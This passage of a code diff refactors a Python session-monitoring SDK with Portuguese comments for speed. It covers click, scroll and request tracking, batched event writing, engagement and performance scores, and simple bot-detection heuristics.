-                              if r.session_id == session_id and r.timestamp > cutoff]
-            rpm = len(session_requests) / window_minutes
-            rps = rpm / 60
-            
             return {
                 "session_id": session_id,
                 "requests_per_minute": round(rpm, 2),
                 "requests_per_second": round(rps, 2),
                 "window_minutes": window_minutes,
-                "total_requests": len(session_requests)
+                "total_requests": total
             }
         else:
             # Todas as requisições
-            recent_requests = [r for r in self.request_history if r.timestamp > cutoff]
-            rpm = len(recent_requests) / window_minutes
-            rps = rpm / 60
-            
             return {
                 "requests_per_minute": round(rpm, 2),
                 "requests_per_second": round(rps, 2),
                 "window_minutes": window_minutes,
-                "total_requests": len(recent_requests)
+                "total_requests": total
             }
     
-    def get_top_endpoints(self, limit: int = 10, sort_by: str = "total_requests") -> List[Dict[str, Any]]:
-        """Obtém endpoints mais acessados"""
-        metrics_list = [(key, metrics) for key, metrics in self.endpoints.items()]
+    def _count_recent_requests(self, session_id: Optional[str], window_minutes: int) -> int:
+        """Conta requisições na janela (opcionalmente de uma sessão)"""
+        cutoff_ns = time.monotonic_ns() - int(window_minutes * 60 * _NS_PER_SECOND)
+        filled = min(self._ring_idx, REQUEST_HISTORY_SIZE)
+        sid = None
+        if session_id:
+            sid = self._session_ids.get(session_id)
+            if sid is None:
+                return 0
+        
+        np = _numpy()
+        if np is None:
+            if sid is None:
+                return sum(1 for ts in self._ts_ring[:filled] if ts > cutoff_ns)
+            return sum(1 for ts, s in zip(self._ts_ring[:filled], self._sid_ring[:filled])
+                       if ts > cutoff_ns and s == sid)
         
-        if sort_by == "response_time":
-            metrics_list.sort(key=lambda x: x[1].avg_response_time, reverse=True)
-        elif sort_by == "failure_rate":
-            metrics_list.sort(key=lambda x: x[1].failure_rate, reverse=True)
-        else:  # total_requests
-            metrics_list.sort(key=lambda x: x[1].total_requests, reverse=True)
+        # Máscara vetorizada sobre a parte preenchida do buffer (a ordem não importa)
+        mask = np.frombuffer(self._ts_ring, dtype=np.longlong)[:filled] > cutoff_ns
+        if sid is not None:
+            mask &= np.frombuffer(self._sid_ring, dtype=np.intc)[:filled] == sid
+        return int(np.count_nonzero(mask))
+    
+    # Critério de ordenação -> atributo de EndpointMetrics
+    _TOP_SORT_ATTRS = {
+        "response_time": "avg_response_time",
+        "failure_rate": "failure_rate",
+        "total_requests": "total_requests",
+    }
+    
+    def get_top_endpoints(self, limit: int = 10, sort_by: str = "total_requests",
+                          metrics_dicts: Optional[Dict[str, Dict[str, Any]]] = None) -> List[Dict[str, Any]]:
+        """Obtém endpoints mais acessados (metrics_dicts: to_dict() já calculados, por chave)"""
+        attr = self._TOP_SORT_ATTRS.get(sort_by, "total_requests")
+        top = heapq.nlargest(limit, self.endpoints.items(), key=lambda kv: getattr(kv[1], attr))
         
-        return [{"endpoint_key": key, **metrics.to_dict()} 
-                for key, metrics in metrics_list[:limit]]
+        if metrics_dicts is None:
+            return [{"endpoint_key": key, **metrics.to_dict()} for key, metrics in top]
+        return [{"endpoint_key": key, **(metrics_dicts.get(key) or metrics.to_dict())}
+                for key, metrics in top]
 
 
 class SessionBehaviorSDK:
     """SDK principal para monitoramento de comportamento de sessão"""
     
-    def __init__(self):
+    def __init__(self, event_sink: Optional[Any] = None):
+        """event_sink: destino binário opcional (ex.: open(..., "ab")) para os eventos em lote"""
         self.behavior_analyzer = UserBehaviorAnalyzer()
         self.endpoint_monitor = EndpointMonitor()
         self.event_handlers: Dict[EventType, List[Callable]] = defaultdict(list)
-        self._active_sessions: Dict[str, datetime] = {}
+        self._active_sessions: Dict[str, int] = {}  # sessão -> última atividade (monotonic ns)
+        # Cliques do último minuto por sessão (monotonic ns), atualizados a cada track_click
+        self._click_windows: Dict[str, deque] = defaultdict(deque)
+        self._cached_report: Optional[Tuple[int, Dict[str, Any]]] = None  # (versão, relatório)
+        self._cached_real_time: Optional[Tuple[int, Dict[str, Any]]] = None  # (expira em ns, métricas)
+        
+        # Escrita dos eventos fora do caminho de rastreamento: fila + thread que serializa em lote
+        self._event_sink = event_sink
+        self._sink_queue: Optional[queue.Queue] = None
+        self._sink_thread: Optional[threading.Thread] = None
+        self.dropped_events = 0
+        if event_sink is not None:
+            self._sink_queue = queue.Queue(maxsize=EVENT_SINK_QUEUE_SIZE)
+            self._sink_thread = threading.Thread(target=self._drain_sink, daemon=True)
+            self._sink_thread.start()
         
     # ============= EVENT HANDLERS =============
     
     def register_event_handler(self, event_type: EventType, handler: Callable):
         """Registra um handler para tipo de evento"""
-        self.event_handlers[event_type].Fappend(handler)
+        self.event_handlers[event_type].append(handler)
         logger.info(f"Handler registrado para evento: {event_type.value}")
     
     def trigger_event_handlers(self, event: UserEvent):
         """Dispara handlers para um evento"""
-        for handler in self.event_handlers[event.event_type]:
+        # .get não cria entradas vazias no defaultdict a cada evento
+        handlers = self.event_handlers.get(event.event_type)
+        if not handlers:
+            return
+        for handler in handlers:
             try:
                 handler(event)
             except Exception as e:
@@ -459,9 +934,19 @@ class SessionBehaviorSDK:
         self.behavior_analyzer.add_event(event)
         self.trigger_event_handlers(event)
         self._update_session_activity(session_id)
+        self._record_click(session_id, event.timestamp_ns)
+        self._emit(event)
         
         return event.event_id
     
+    def _record_click(self, session_id: str, timestamp_ns: int):
+        """Acrescenta o clique à janela da sessão, descartando os anteriores ao último minuto"""
+        window = self._click_windows[session_id]
+        cutoff_ns = timestamp_ns - SESSION_RATE_WINDOW_NS
+        while window and window[0] < cutoff_ns:
+            window.popleft()
+        window.append(timestamp_ns)
+    
     def track_scroll(self, session_id: str, scroll_position: Dict[str, int],
                     page_url: str = "", **metadata) -> str:
         """Rastreia evento de scroll"""
@@ -476,6 +961,7 @@ class SessionBehaviorSDK:
         self.behavior_analyzer.add_event(event)
         self.trigger_event_handlers(event)
         self._update_session_activity(session_id)
+        self._emit(event)
         
         return event.event_id
     
@@ -493,6 +979,7 @@ class SessionBehaviorSDK:
         self.behavior_analyzer.add_event(event)
         self.trigger_event_handlers(event)
         self._update_session_activity(session_id)
+        self._emit(event)
         
         return event.event_id
     
@@ -509,9 +996,36 @@ class SessionBehaviorSDK:
         self.behavior_analyzer.add_event(event)
         self.trigger_event_handlers(event)
         self._update_session_activity(session_id)
+        self._emit(event)
         
         return event.event_id
     
+    def track_clicks_bulk(self, clicks: List[Dict[str, Any]]) -> List[str]:
+        """Rastreia vários cliques (dicts com session_id, element_id, coordinates, page_url)"""
+        return self.track_user_events_bulk([_click_event_from(click) for click in clicks])
+    
+    def track_scrolls_bulk(self, scrolls: List[Dict[str, Any]]) -> List[str]:
+        """Rastreia vários scrolls (dicts com session_id, coordinates, page_url, direction)"""
+        return self.track_user_events_bulk([_scroll_event_from(scroll) for scroll in scrolls])
+    
+    def track_user_events_bulk(self, events: List[UserEvent]) -> List[str]:
+        """Armazena UserEvents já criados (na ordem recebida), dispara handlers e atualiza as sessões uma vez"""
+        record_click = self._record_click
+        for event in events:
+            if event.event_type is EventType.CLICK:
+                record_click(event.session_id, event.timestamp_ns)
+        
+        self.behavior_analyzer.add_events(events)
+        for event in events:
+            self.trigger_event_handlers(event)
+            self._emit(event)
+        
+        now_ns = time.monotonic_ns()
+        for session_id in {event.session_id for event in events}:
+            self._active_sessions[session_id] = now_ns
+        
+        return [event.event_id for event in events]
+    
     # ============= REQUEST MONITORING =============
     
     def track_request(self, session_id: str, endpoint: str, method: HTTPMethod,
@@ -539,9 +1053,31 @@ class SessionBehaviorSDK:
         
         self.endpoint_monitor.record_request(request)
         self._update_session_activity(session_id)
+        self._emit(request)
         
         return request.request_id
     
+    def track_requests_bulk(self, requests: List[Dict[str, Any]]) -> List[str]:
+        """Rastreia várias requisições (dicts com os mesmos campos de track_request)"""
+        return self.track_request_events_bulk([_request_event_from(data) for data in requests])
+    
+    def track_request_events_bulk(self, requests: List[RequestEvent]) -> List[str]:
+        """Registra RequestEvents já criados (na ordem recebida) e atualiza as sessões uma vez"""
+        record = self.endpoint_monitor.record_request
+        request_ids = []
+        sessions = set()
+        for request in requests:
+            record(request)
+            self._emit(request)
+            sessions.add(request.session_id)
+            request_ids.append(request.request_id)
+        
+        now_ns = time.monotonic_ns()
+        for session_id in sessions:
+            self._active_sessions[session_id] = now_ns
+        
+        return request_ids
+    
     def request_timing_decorator(self, endpoint: str, method: HTTPMethod = HTTPMethod.GET):
         """Decorator para medir tempo de resposta automaticamente"""
         def decorator(func):
@@ -580,40 +1116,54 @@ class SessionBehaviorSDK:
     
     # ============= ANALYTICS =============
     
+    def clicks_per_minute(self, session_id: str) -> int:
+        """Cliques da sessão no último minuto (contador deslizante, O(1) amortizado)"""
+        window = self._click_windows.get(session_id)
+        if not window:
+            return 0
+        cutoff_ns = time.monotonic_ns() - SESSION_RATE_WINDOW_NS
+        while window and window[0] < cutoff_ns:
+            window.popleft()
+        return len(window)
+    
+    def requests_per_minute(self, session_id: str) -> int:
+        """Requisições da sessão no último minuto (janela mantida pelo monitor de endpoints)"""
+        return self.endpoint_monitor.session_requests_last_minute(session_id)
+    
     def get_session_behavior_analysis(self, session_id: str) -> Dict[str, Any]:
         """Análise completa do comportamento da sessão"""
-        user_sequence = self.behavior_analyzer.get_user_sequence(session_id)
-        idle_analysis = self.behavior_analyzer.calculate_idle_time(session_id)
-        click_patterns = self.behavior_analyzer.analyze_click_patterns(session_id)
+        # Estatísticas gerais, inatividade e cliques em uma única passada pelos eventos
+        session = self.behavior_analyzer.analyze_session(session_id)
+        user_sequence = session["events"]
         request_metrics = self.endpoint_monitor.calculate_requests_per_minute(session_id)
-        
-        # Estatísticas gerais da sessão
-        event_counts = defaultdict(int)
-        for event in user_sequence:
-            event_counts[event.event_type.value] += 1
-        
-        session_duration = 0
-        if user_sequence:
-            session_duration = (user_sequence[-1].timestamp - user_sequence[0].timestamp).total_seconds()
+        request_metrics["current_requests_per_minute"] = self.requests_per_minute(session_id)
+        click_patterns = session["click_patterns"]
+        click_patterns["current_clicks_per_minute"] = self.clicks_per_minute(session_id)
         
         return {
             "session_id": session_id,
             "analysis_timestamp": datetime.now().isoformat(),
-            "session_duration_seconds": session_duration,
+            "session_duration_seconds": session["session_duration_seconds"],
             "total_events": len(user_sequence),
-            "event_breakdown": dict(event_counts),
+            "event_breakdown": session["event_breakdown"],
             "click_patterns": click_patterns,
-            "idle_analysis": idle_analysis,
+            "idle_analysis": session["idle_analysis"],
             "request_metrics": request_metrics,
             "user_sequence": [event.to_dict() for event in user_sequence[-20:]]  # Últimos 20 eventos
         }
     
     def get_endpoint_performance_report(self) -> Dict[str, Any]:
-        """Relatório de performance dos endpoints"""
+        """Relatório de performance dos endpoints (cacheado até a próxima requisição registrada)"""
+        version = self.endpoint_monitor.version
+        cached = self._cached_report
+        if cached is not None and cached[0] == version:
+            return cached[1]
+        
+        # to_dict() de cada endpoint é calculado uma vez e reaproveitado nos rankings
         all_metrics = self.endpoint_monitor.get_all_endpoints_metrics()
-        top_endpoints = self.endpoint_monitor.get_top_endpoints(10)
-        top_slow = self.endpoint_monitor.get_top_endpoints(5, "response_time")
-        top_errors = self.endpoint_monitor.get_top_endpoints(5, "failure_rate")
+        top_endpoints = self.endpoint_monitor.get_top_endpoints(10, metrics_dicts=all_metrics)
+        top_slow = self.endpoint_monitor.get_top_endpoints(5, "response_time", metrics_dicts=all_metrics)
+        top_errors = self.endpoint_monitor.get_top_endpoints(5, "failure_rate", metrics_dicts=all_metrics)
         
         # Estatísticas globais
         total_requests = sum(m["total_requests"] for m in all_metrics.values())
@@ -621,7 +1171,7 @@ class SessionBehaviorSDK:
         
         global_success_rate = (total_successful / max(total_requests, 1)) * 100
         
-        return {
+        report = {
             "report_timestamp": datetime.now().isoformat(),
             "summary": {
                 "total_endpoints": len(all_metrics),
@@ -634,14 +1184,22 @@ class SessionBehaviorSDK:
             "most_error_prone": top_errors,
             "all_endpoints": all_metrics
         }
+        self._cached_report = (version, report)
+        return report
     
     def get_real_time_metrics(self) -> Dict[str, Any]:
-        """Métricas em tempo real"""
+        """Métricas em tempo real (cache curto de REAL_TIME_METRICS_TTL_NS)"""
+        now_ns = time.monotonic_ns()
+        cached = self._cached_real_time
+        if cached is not None and now_ns < cached[0]:
+            return cached[1]
+        
         current_rpm = self.endpoint_monitor.calculate_requests_per_minute(window_minutes=1)
-        active_sessions = len([s for s, last_activity in self._active_sessions.items() 
-                              if (datetime.now() - last_activity).total_seconds() < 300])  # 5 min
+        cutoff_ns = now_ns - 300 * _NS_PER_SECOND  # 5 min
+        active_sessions = sum(1 for last_activity in self._active_sessions.values()
+                              if last_activity > cutoff_ns)
         
-        return {
+        metrics = {
             "timestamp": datetime.now().isoformat(),
             "active_sessions": active_sessions,
             "current_requests_per_minute": current_rpm["requests_per_minute"],
@@ -649,25 +1207,70 @@ class SessionBehaviorSDK:
             "total_endpoints_monitored": len(self.endpoint_monitor.endpoints),
             "recent_request_count": len(self.endpoint_monitor.request_history)
         }
+        self._cached_real_time = (now_ns + REAL_TIME_METRICS_TTL_NS, metrics)
+        return metrics
     
     # ============= UTILITY METHODS =============
     
     def _update_session_activity(self, session_id: str):
         """Atualiza última atividade da sessão"""
-        self._active_sessions[session_id] = datetime.now()
+        self._active_sessions[session_id] = time.monotonic_ns()
+    
+    def _emit(self, event):
+        """Enfileira o evento para o sink (descarta se a fila estiver cheia)"""
+        sink_queue = self._sink_queue
+        if sink_queue is None:
+            return
+        try:
+            sink_queue.put_nowait(event)
+        except queue.Full:
+            self.dropped_events += 1
+    
+    def _drain_sink(self):
+        """Thread de escrita: agrupa até EVENT_SINK_BATCH_SIZE eventos por escrita"""
+        while True:
+            batch = [self._sink_queue.get()]
+            while len(batch) < EVENT_SINK_BATCH_SIZE:
+                try:
+                    batch.append(self._sink_queue.get_nowait())
+                except queue.Empty:
+                    break
+            
+            events = [e for e in batch if e is not _SINK_STOP]
+            if events:
+                try:
+                    self._event_sink.write(_dumps_events([e.to_dict() for e in events]))
+                except Exception as e:
+                    logger.error(f"Erro ao gravar eventos no sink: {str(e)}")
+            if len(events) != len(batch):
+                return
+    
+    def close(self):
+        """Grava os eventos pendentes e encerra a thread do sink"""
+        if self._sink_thread is None:
+            return
+        self._sink_queue.put(_SINK_STOP)
+        self._sink_thread.join()
+        self._sink_thread = None
+        self._sink_queue = None
+        if hasattr(self._event_sink, "flush"):
+            self._event_sink.flush()
     
     def cleanup_old_sessions(self, hours: int = 24):
         """Remove dados de sessões antigas"""
-        cutoff = datetime.now() - timedelta(hours=hours)
+        cutoff_ns = time.monotonic_ns() - hours * 3600 * _NS_PER_SECOND
         
         # Limpar sessões inativas
-        inactive_sessions = [sid for sid, last_activity in self._active_sessions.items() 
-                           if last_activity < cutoff]
+        inactive_sessions = {sid for sid, last_activity in self._active_sessions.items() 
+                             if last_activity < cutoff_ns}
         
+        sessions = self.behavior_analyzer.sessions
+        rate_windows = self.endpoint_monitor.rate_limiter_windows
         for session_id in inactive_sessions:
-            del self._active_sessions[session_id]
-            if session_id in self.behavior_analyzer.sessions:
-                del self.behavior_analyzer.sessions[session_id]
+            self._active_sessions.pop(session_id, None)
+            sessions.pop(session_id, None)
+            rate_windows.pop(session_id, None)  # janelas de rate limiting de sessões encerradas
+            self._click_windows.pop(session_id, None)
         
         logger.info(f"Limpeza executada: {len(inactive_sessions)} sessões antigas removidas")
 
@@ -774,54 +1377,57 @@ def exemplo_uso_completo():
     result = export_data(session_id=session_id, format="csv")
     print(f"   Resultado da exportação: {result}")
     
-    # 6. Análises e relatórios
-    print("\n6. Gerando análises e relatórios...")
+    # 6. Análises e relatórios (saída acumulada em buffer e escrita de uma vez no final)
+    out: List[str] = ["\n6. Gerando análises e relatórios..."]
     
     # Análise comportamental da sessão
     behavior_analysis = sdk.get_session_behavior_analysis(session_id)
-    print(f"   📊 Total de eventos: {behavior_analysis['total_events']}")
-    print(f"   ⏱️  Duração da sessão: {behavior_analysis['session_duration_seconds']:.1f}s")
-    print(f"   🖱️  Total de cliques: {behavior_analysis['click_patterns']['total_clicks']}")
-    print(f"   😴 Tempo total inativo: {behavior_analysis['idle_analysis']['total_idle_time_seconds']:.1f}s")
-    print(f"   📈 Req/min da sessão: {behavior_analysis['request_metrics']['requests_per_minute']}")
+    click_patterns = behavior_analysis['click_patterns']
+    idle_analysis = behavior_analysis['idle_analysis']
+    out.append(f"   📊 Total de eventos: {behavior_analysis['total_events']}")
+    out.append(f"   ⏱️  Duração da sessão: {behavior_analysis['session_duration_seconds']:.1f}s")
+    out.append(f"   🖱️  Total de cliques: {click_patterns['total_clicks']}")
+    out.append(f"   😴 Tempo total inativo: {idle_analysis['total_idle_time_seconds']:.1f}s")
+    out.append(f"   📈 Req/min da sessão: {behavior_analysis['request_metrics']['requests_per_minute']}")
     
     # Relatório de performance dos endpoints
     performance_report = sdk.get_endpoint_performance_report()
-    print(f"\n   🌐 Endpoints monitorados: {performance_report['summary']['total_endpoints']}")
-    print(f"   ✅ Taxa de sucesso global: {performance_report['summary']['global_success_rate']:.1f}%")
-    print(f"   📊 Total de requisições: {performance_report['summary']['total_requests']}")
+    summary = performance_report['summary']
+    out.append(f"\n   🌐 Endpoints monitorados: {summary['total_endpoints']}")
+    out.append(f"   ✅ Taxa de sucesso global: {summary['global_success_rate']:.1f}%")
+    out.append(f"   📊 Total de requisições: {summary['total_requests']}")
     
     # Métricas em tempo real
     real_time = sdk.get_real_time_metrics()
-    print(f"\n   🔴 Sessões ativas: {real_time['active_sessions']}")
-    print(f"   ⚡ Req/min atual: {real_time['current_requests_per_minute']}")
-    print(f"   ⚡ Req/seg atual: {real_time['current_requests_per_second']}")
+    out.append(f"\n   🔴 Sessões ativas: {real_time['active_sessions']}")
+    out.append(f"   ⚡ Req/min atual: {real_time['current_requests_per_minute']}")
+    out.append(f"   ⚡ Req/seg atual: {real_time['current_requests_per_second']}")
     
     # 7. Demonstrar análise detalhada
-    print("\n7. Análise detalhada dos dados coletados...")
+    out.append("\n7. Análise detalhada dos dados coletados...")
     
     # Top endpoints mais usados
-    print("\n   🔝 Top 3 Endpoints Mais Usados:")
+    out.append("\n   🔝 Top 3 Endpoints Mais Usados:")
     for i, endpoint in enumerate(performance_report['top_endpoints_by_usage'][:3], 1):
-        print(f"      {i}. {endpoint['method']} {endpoint['endpoint']} "
-              f"({endpoint['total_requests']} req, {endpoint['success_rate']}% sucesso)")
+        out.append(f"      {i}. {endpoint['method']} {endpoint['endpoint']} "
+                   f"({endpoint['total_requests']} req, {endpoint['success_rate']}% sucesso)")
     
     # Sequência de ações do usuário
-    print(f"\n   📋 Últimas 5 Ações do Usuário:")
+    out.append(f"\n   📋 Últimas 5 Ações do Usuário:")
     for i, event in enumerate(behavior_analysis['user_sequence'][-5:], 1):
-        timestamp = event['timestamp'].split('T')[1][:8]  # Só o horário
-        print(f"      {i}. {timestamp} - {event['event_type'].upper()} "
-              f"{'em ' + event['element_id'] if event['element_id'] else ''}")
+        timestamp = time.strftime('%H:%M:%S', time.localtime(event['ts_epoch']))  # Só o horário
+        out.append(f"      {i}. {timestamp} - {event['event_type'].upper()} "
+                   f"{'em ' + event['element_id'] if event['element_id'] else ''}")
     
     # Períodos de inatividade
-    idle_periods = behavior_analysis['idle_analysis']['idle_periods']
+    idle_periods = idle_analysis['idle_periods']
     if idle_periods:
-        print(f"\n   😴 Períodos de Inatividade Detectados:")
+        out.append(f"\n   😴 Períodos de Inatividade Detectados:")
         for i, period in enumerate(idle_periods, 1):
-            print(f"      {i}. {period['duration_seconds']:.1f}s de inatividade")
+            out.append(f"      {i}. {period['duration_seconds']:.1f}s de inatividade")
     
     # 8. Relatório JSON completo
-    print("\n8. Gerando relatório completo em JSON...")
+    out.append("\n8. Gerando relatório completo em JSON...")
     
     complete_report = {
         "session_analysis": behavior_analysis,
@@ -834,17 +1440,28 @@ def exemplo_uso_completo():
         }
     }
     
-    # Salvar relatório (simulado)
+    # Salvar relatório (simulado); serializado uma única vez e reaproveitado para o tamanho
     report_filename = f"session_report_{session_id}.json"
-    print(f"   💾 Relatório salvo como: {report_filename}")
-    print(f"   📄 Tamanho do relatório: ~{len(json.dumps(complete_report, default=str))} bytes")
+    serialized = _dumps_report(complete_report)
+    out.append(f"   💾 Relatório salvo como: {report_filename}")
+    out.append(f"   📄 Tamanho do relatório: ~{len(serialized)} bytes")
     
-    print(f"\n=== Demonstração Concluída ===")
-    print(f"Sessão {session_id} analisada com sucesso!")
+    out.append(f"\n=== Demonstração Concluída ===")
+    out.append(f"Sessão {session_id} analisada com sucesso!")
+    sys.stdout.write("\n".join(out) + "\n")
     
     return complete_report
 
 
+# Pesos e tetos do score de engajamento (0-100)
+_ACT_W, _ACT_CAP = 2, 40            # Max 40 pontos por atividade (por evento)
+_TIME_W, _TIME_CAP = 10 / 60, 30    # Max 30 por tempo ativo (por segundo)
+_INT_W, _INT_CAP = 5, 30            # Max 30 por frequência de cliques (por clique/min)
+
+# Colunas do array estruturado aceito por calculate_engagement_scores_batch
+ENGAGEMENT_FIELDS = ("total_events", "session_duration", "idle_time", "click_freq")
+
+
 def calculate_engagement_score(behavior_analysis: Dict[str, Any]) -> Dict[str, Any]:
     """Calcula score de engajamento do usuário"""
     total_events = behavior_analysis['total_events']
@@ -853,9 +1470,15 @@ def calculate_engagement_score(behavior_analysis: Dict[str, Any]) -> Dict[str, A
     click_frequency = behavior_analysis['click_patterns']['click_frequency_per_minute']
     
     # Score baseado em múltiplos fatores (0-100)
-    activity_score = min(total_events * 2, 40)  # Max 40 pontos por atividade
-    engagement_time_score = min((session_duration - idle_time) / 60 * 10, 30)  # Max 30 por tempo ativo
-    interaction_score = min(click_frequency * 5, 30)  # Max 30 por frequência de cliques
+    activity_score = total_events * _ACT_W
+    if activity_score > _ACT_CAP:
+        activity_score = _ACT_CAP
+    engagement_time_score = (session_duration - idle_time) * _TIME_W
+    if engagement_time_score > _TIME_CAP:
+        engagement_time_score = _TIME_CAP
+    interaction_score = click_frequency * _INT_W
+    if interaction_score > _INT_CAP:
+        interaction_score = _INT_CAP
     
     total_score = activity_score + engagement_time_score + interaction_score
     
@@ -881,17 +1504,42 @@ def calculate_engagement_score(behavior_analysis: Dict[str, Any]) -> Dict[str, A
     }
 
 
+def calculate_engagement_scores_batch(sessions) -> Dict[str, Any]:
+    """Score de engajamento de várias sessões de uma vez (requer numpy).
+    
+    sessions: array estruturado com as colunas de ENGAGEMENT_FIELDS. Retorna os
+    arrays de score total e de cada fator (mesma fórmula de calculate_engagement_score).
+    """
+    np = _numpy()
+    if np is None:
+        raise ImportError("calculate_engagement_scores_batch requer numpy")
+    
+    activity = np.minimum(sessions["total_events"] * float(_ACT_W), _ACT_CAP)
+    engagement_time = np.minimum((sessions["session_duration"] - sessions["idle_time"]) * _TIME_W, _TIME_CAP)
+    interaction = np.minimum(sessions["click_freq"] * float(_INT_W), _INT_CAP)
+    
+    return {
+        "score": np.round(activity + engagement_time + interaction, 1),
+        "activity_score": np.round(activity, 1),
+        "engagement_time_score": np.round(engagement_time, 1),
+        "interaction_score": np.round(interaction, 1)
+    }
+
+
 def calculate_performance_score(performance_report: Dict[str, Any]) -> Dict[str, Any]:
     """Calcula score de performance da aplicação"""
     success_rate = performance_report['summary']['global_success_rate']
     
-    # Análise de tempo de resposta dos endpoints
-    avg_response_times = []
+    # Análise de tempo de resposta dos endpoints (soma e contagem em uma passada, sem lista)
+    total_response_time = 0.0
+    timed_endpoints = 0
     for endpoint_data in performance_report['all_endpoints'].values():
-        if endpoint_data['avg_response_time_ms'] > 0:
-            avg_response_times.append(endpoint_data['avg_response_time_ms'])
+        response_time = endpoint_data['avg_response_time_ms']
+        if response_time > 0:
+            total_response_time += response_time
+            timed_endpoints += 1
     
-    avg_response_time = statistics.mean(avg_response_times) if avg_response_times else 0
+    avg_response_time = total_response_time / timed_endpoints if timed_endpoints else 0
     
     # Score baseado em múltiplos fatores (0-100)
     success_score = success_rate  # Já está em percentual
@@ -932,8 +1580,20 @@ def calculate_performance_score(performance_report: Dict[str, Any]) -> Dict[str,
     }
 
 
+# Dicionário vazio compartilhado para seções ausentes da análise (somente leitura)
+_EMPTY: Dict[str, Any] = {}
+
+
 def analyze_security_indicators(session_id: str, behavior_analysis: Dict[str, Any]) -> Dict[str, Any]:
     """Analisa indicadores de segurança baseados no comportamento"""
+    request_metrics = behavior_analysis.get('request_metrics') or _EMPTY
+    click_patterns = behavior_analysis.get('click_patterns') or _EMPTY
+    events = behavior_analysis.get('user_sequence') or ()
+    rpm = request_metrics.get('requests_per_minute', 0)
+    click_freq = click_patterns.get('click_frequency_per_minute', 0)
+    session_duration = behavior_analysis.get('session_duration_seconds', 0)
+    total_events = behavior_analysis.get('total_events', 0)
+    
     indicators = {
         "risk_level": "low",
         "suspicious_activities": [],
@@ -941,8 +1601,12 @@ def analyze_security_indicators(session_id: str, behavior_analysis: Dict[str, An
         "recommendations": []
     }
     
+    # Sessão sem atividade: nenhuma verificação pode disparar
+    if not rpm and not click_freq and not events and not total_events:
+        indicators["recommendations"].append("Continuar monitoramento padrão")
+        return indicators
+    
     # Verificar frequência muito alta de requisições
-    rpm = behavior_analysis.get('request_metrics', {}).get('requests_per_minute', 0)
     if rpm > 100:  # Mais de 100 req/min pode ser bot
         indicators["suspicious_activities"].append("Taxa de requisições muito alta (possível bot)")
         indicators["security_score"] -= 30
@@ -953,7 +1617,6 @@ def analyze_security_indicators(session_id: str, behavior_analysis: Dict[str, An
         indicators["risk_level"] = "medium"
     
     # Verificar padrões de clique anômalos
-    click_freq = behavior_analysis.get('click_patterns', {}).get('click_frequency_per_minute', 0)
     if click_freq > 60:  # Mais de 1 clique por segundo em média
         indicators["suspicious_activities"].append("Frequência de cliques anormalmente alta")
         indicators["security_score"] -= 20
@@ -961,25 +1624,29 @@ def analyze_security_indicators(session_id: str, behavior_analysis: Dict[str, An
             indicators["risk_level"] = "medium"
     
     # Verificar se há muito pouco tempo entre eventos (possível automação)
-    events = behavior_analysis.get('user_sequence', [])
     if len(events) >= 10:
-        time_intervals = []
-        for i in range(1, min(len(events), 11)):  # Verificar primeiros 10 intervalos
-            prev_time = datetime.fromisoformat(events[i-1]['timestamp'].replace('Z', '+00:00'))
-            curr_time = datetime.fromisoformat(events[i]['timestamp'].replace('Z', '+00:00'))
-            interval = (curr_time - prev_time).total_seconds()
-            time_intervals.append(interval)
-        
-        avg_interval = statistics.mean(time_intervals)
+        # Verificar primeiros 10 intervalos: a média das diferenças consecutivas
+        # é (último - primeiro) / intervalos, direto dos timestamps em epoch
+        window = events[:11]
+        first, last = window[0], window[-1]
+        if 'ts_epoch' in first and 'ts_epoch' in last:
+            avg_interval = (last['ts_epoch'] - first['ts_epoch']) / (len(window) - 1)
+        else:
+            # Sequências externas sem ts_epoch: timestamps ISO convertidos uma única vez
+            stamps = [e['timestamp'].replace('Z', '').split('+')[0] for e in window]
+            np = _numpy()
+            if np is not None:
+                ts = np.array(stamps, dtype='datetime64[us]')
+                avg_interval = float((np.diff(ts) / np.timedelta64(1, 's')).mean())
+            else:
+                parsed = [datetime.fromisoformat(t) for t in stamps]
+                avg_interval = fmean((curr - prev).total_seconds() for prev, curr in zip(parsed, parsed[1:]))
         if avg_interval < 0.5:  # Menos de 500ms entre eventos
             indicators["suspicious_activities"].append("Intervalos muito regulares entre eventos (possível automação)")
             indicators["security_score"] -= 25
             indicators["risk_level"] = "high"
     
     # Verificar sessões muito curtas com muita atividade
-    session_duration = behavior_analysis.get('session_duration_seconds', 0)
-    total_events = behavior_analysis.get('total_events', 0)
-    
     if session_duration > 0 and total_events / session_duration > 2:  # Mais de 2 eventos por segundo
         indicators["suspicious_activities"].append("Muita atividade em pouco tempo")
         indicators["security_score"] -= 15
@@ -1006,74 +1673,88 @@ def analyze_security_indicators(session_id: str, behavior_analysis: Dict[str, An
     return indicators
 
 
-def get_engagement_recommendations(level: str) -> List[str]:
+# Recomendações fixas por nível (tuplas imutáveis compartilhadas entre relatórios)
+_ENGAGEMENT_RECS: Dict[str, Tuple[str, ...]] = {
+    "Muito Baixo": (
+        "Revisar UX/UI da aplicação",
+        "Implementar tutoriais interativos",
+        "Verificar se conteúdo é relevante",
+        "Considerar gamificação"
+    ),
+    "Baixo": (
+        "Adicionar elementos interativos",
+        "Melhorar call-to-actions",
+        "Personalizar experiência do usuário"
+    ),
+    "Médio": (
+        "Otimizar fluxos principais",
+        "Adicionar notificações relevantes",
+        "Implementar recursos de ajuda contextual"
+    ),
+    "Alto": (
+        "Manter qualidade atual",
+        "Considerar recursos avançados",
+        "Coletar feedback para melhorias"
+    ),
+}
+
+_PERFORMANCE_RECS: Dict[str, Tuple[str, ...]] = {
+    "Ruim": (
+        "URGENTE: Investigar gargalos de performance",
+        "Revisar infraestrutura e recursos",
+        "Implementar cache agressivo",
+        "Otimizar consultas de banco de dados"
+    ),
+    "Regular": (
+        "Implementar cache em endpoints lentos",
+        "Otimizar consultas de banco",
+        "Revisar código dos endpoints mais usados"
+    ),
+    "Boa": (
+        "Monitorar tendências de performance",
+        "Implementar cache preventivo",
+        "Considerar CDN para recursos estáticos"
+    ),
+    "Excelente": ("Manter padrão atual de excelência",),
+}
+
+
+def get_engagement_recommendations(level: str) -> Tuple[str, ...]:
     """Recomendações para melhorar engajamento"""
-    if level == "Muito Baixo":
-        return [
-            "Revisar UX/UI da aplicação",
-            "Implementar tutoriais interativos",
-            "Verificar se conteúdo é relevante",
-            "Considerar gamificação"
-        ]
-    elif level == "Baixo":
-        return [
-            "Adicionar elementos interativos",
-            "Melhorar call-to-actions",
-            "Personalizar experiência do usuário"
-        ]
-    elif level == "Médio":
-        return [
-            "Otimizar fluxos principais",
-            "Adicionar notificações relevantes",
-            "Implementar recursos de ajuda contextual"
-        ]
-    else:  # Alto
-        return [
-            "Manter qualidade atual",
-            "Considerar recursos avançados",
